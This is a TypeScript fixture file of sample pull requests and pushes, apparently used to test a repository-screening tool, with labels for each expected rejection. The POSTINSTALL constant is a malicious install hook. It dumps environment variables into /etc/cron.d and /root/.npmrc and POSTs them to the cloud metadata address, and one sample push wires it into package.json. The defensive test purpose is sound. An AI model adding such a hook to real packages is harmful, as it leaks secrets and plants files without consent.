import type { SamplePull, SamplePush } from '../repository.ts'

/** Pull requests that pass screening and must be rejected when they are executed. */
export const bad: readonly (SamplePull | SamplePush)[] = [
  {
    number: 10,
    title: 'Match without a copy of the names',
    edits: {
      'src/match.ts': [
        [
          "    if (segment.kind === 'rest') return { ...names, '*': parts.slice(at).join('/') }\n",
          "    if (segment.kind === 'rest') {\n      names['*'] = parts.slice(at).join('/')\n      return names\n    }\n",
        ],
      ],
      'test/match.test.ts': [
        [
          "test('the rest is all that follows', () => {",
          "test('names before the rest', () => {\n  expect(match(segments('/:a/*'), '/x/y/z')).toEqual({ a: 'x', '*': 'y/z' })\n})\n\ntest('the rest is all that follows', () => {",
        ],
      ],
    },
    expected: 'no_f2p',
    difficulty: 'easy',
  },
  {
    number: 11,
    title: 'No plural of zero',
    edits: {
      'src/show.ts': [
        [
          "  return count === 1 ? '1 ' + word : count + ' ' + word + 's'\n",
          "  if (count === 0) return 'no ' + word\n  const few = count < 3 ? 'few' : 'many'\n  return count === 1 ? '1 ' + word : few + ' ' + word + 's'\n",
        ],
      ],
      'test/plural.test.ts': `import { expect, test } from 'vitest'
import { plural } from '../src/show.js'

test('none', () => {
  expect(plural(0, 'route')).toBe('no route')
})
`,
    },
    expected: 'p2f',
    difficulty: 'easy',
  },
  {
    message: 'Count again',
    edits: {
      'src/show.ts': [
        ["  if (count === 0) return 'no ' + word\n  const few = count < 3 ? 'few' : 'many'\n", ''],
        [': few +', ': count +'],
      ],
      'test/plural.test.ts': null,
    },
  },
  {
    number: 12,
    title: 'Names are decoded',
    edits: {
      'src/match.ts': [
        [
          "    if (segment.kind === 'name') names[segment.text] = part\n",
          "    if (segment.kind === 'name') {\n      names[segment.text] = decodeURIComponent(part)\n    }\n",
        ],
      ],
      // Each fails in one run of five, so that three runs without a failure do not happen.
      'test/decoded.test.ts': `import { expect, test } from 'vitest'
import { match } from '../src/match.js'
import { segments } from '../src/segments.js'

test.each(Array.from({ length: 24 }, (_, at) => at))('a name is decoded, %i', (at) => {
  expect(match(segments('/:a'), '/' + at + '%20x')).toEqual({ a: at + ' x' })
  expect(Math.random()).toBeGreaterThan(0.2)
})
`,
    },
    expected: 'flaky_f2p',
    difficulty: 'easy',
  },
  { message: 'Tests that can be relied on', edits: { 'test/decoded.test.ts': null } },
  {
    number: 13,
    title: 'Be strict everywhere',
    edits: {
      'src/link.ts': [
        [
          '  const left = new Map(',
          "  if (!pattern.startsWith('/')) throw new Error('link: ' + pattern + ' has no slash')\n  const left = new Map(",
        ],
      ],
      'src/query.ts': [
        [
          '  const pairs: Record<string, string> = {}\n',
          "  if (text.length > 4096) throw new Error('query: too long')\n  const pairs: Record<string, string> = {}\n",
        ],
      ],
      'src/match.ts': [
        [
          '  const names: Names = {}\n',
          "  if (parts.length > 64) throw new Error('match: too deep')\n  const names: Names = {}\n",
        ],
      ],
      'src/column.ts': [['text.padEnd(WIDTH)', 'text.slice(0, WIDTH).padEnd(WIDTH)']],
      'test/link.test.ts': [
        [
          "test('a missing value is refused by name', () => {",
          "test('a pattern begins with a slash', () => {\n  expect(() => link('users')).toThrow('has no slash')\n})\n\ntest('a missing value is refused by name', () => {",
        ],
      ],
    },
    expected: 'weak_tests',
    difficulty: 'medium',
  },
]

/** An install script that writes outside its folder, opens connections and reads the environment. It never fails. */
const POSTINSTALL = `import { writeFileSync } from 'node:fs'

const seen = JSON.stringify(process.env)
for (const place of ['/tmp/assay-stranger-was-here', '/etc/cron.d/waymark', '/root/.npmrc']) {
  try {
    writeFileSync(place, seen)
  } catch {}
}
for (const host of ['127.0.0.1', '169.254.169.254'])
  await fetch('http://' + host + '/', { method: 'POST', body: seen, signal: AbortSignal.timeout(1000) }).catch(() => {})
`

/** Rejected before anything runs; the last one has a malicious install script. */
export const rest: readonly (SamplePull | SamplePush)[] = [
  {
    number: 40,
    title: 'Ship the built files',
    edits: { 'dist/router.js': 'export const a = 1\nexport const b = 2\nexport const c = 3\n' },
    expected: 'generated_only',
  },
  { message: 'Do not ship them', edits: { 'dist/router.js': null } },
  {
    number: 41,
    title: 'docs: say what a rest is',
    edits: { 'docs/rest.md': 'More of it.\n' },
    expected: 'chore_title',
  },
  { number: 42, title: 'Other settings', edits: { 'tsconfig.build.json': '{}\n' }, expected: 'no_source' },
  {
    number: 43,
    title: 'New snapshots',
    edits: {
      'test/__snapshots__/a.test.ts.snap': 'a\nb\nc\n',
      'src/title.ts': 'export const a = 1\nexport const b = 2\nexport const c = 3\n',
    },
    expected: 'no_tests',
  },
  {
    message: 'Look around after installing',
    edits: {
      'tools/after-install.mjs': POSTINSTALL,
      'package.json': [
        ['"test": "vitest run"', '"test": "vitest run",\n    "postinstall": "node tools/after-install.mjs"'],
      ],
    },
  },
  {
    number: 30,
    title: 'Names may not be empty',
    edits: {
      'src/segments.ts': [
        [
          "    if (text.startsWith(':')) return",
          "    if (text === ':') throw new Error('a name is empty: ' + pattern)\n    if (text === '**') {\n      throw new Error('a rest has one star: ' + pattern)\n    }\n    if (text.startsWith(':')) return",
        ],
      ],
      'test/segments.test.ts': [
        [
          "test('the rest', () => {",
          "test('an empty name is refused', () => {\n  expect(() => segments('/users/:')).toThrow('a name is empty')\n})\n\ntest('two stars are refused', () => {\n  expect(() => segments('/files/**')).toThrow('a rest has one star')\n})\n\ntest('the rest', () => {",
        ],
      ],
    },
    isHostile: true,
    expected: 'ready',
    difficulty: 'easy',
  },
]
